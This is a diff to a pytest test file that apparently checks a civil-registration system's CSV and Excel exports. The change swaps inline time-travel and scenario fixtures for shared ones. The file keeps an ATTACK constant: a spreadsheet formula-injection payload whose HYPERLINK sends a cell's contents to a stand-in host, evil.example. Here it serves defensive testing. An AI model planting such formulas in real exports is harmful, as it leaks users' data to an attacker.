@@ -6,31 +6,15 @@ import csv
 import io
 
 import pytest
-import time_machine
 from openpyxl import load_workbook
 
 from tests.factories import PASSWORD
 
-from .scenario import EXPECTED_TOTAL, NOW, build_october
+from .scenario import EXPECTED_TOTAL
 
 ATTACK = '=HYPERLINK("http://evil.example/?d="&B12,"Xem chi tiết")'
 
-
-@pytest.fixture(autouse=True)
-def _after_october():
-    with time_machine.travel(NOW, tick=False):
-        yield
-
-
-@pytest.fixture
-def october(commune, sibling, birth, marriage, copy_cert, citizen, officer):
-    return build_october(
-        agency=commune,
-        procedures={"birth": birth, "marriage": marriage, "copy_cert": copy_cert},
-        applicant=citizen,
-        officer=officer,
-        other_agency=sibling,
-    )
+pytestmark = pytest.mark.usefixtures("after_october")
 
 
 @pytest.fixture
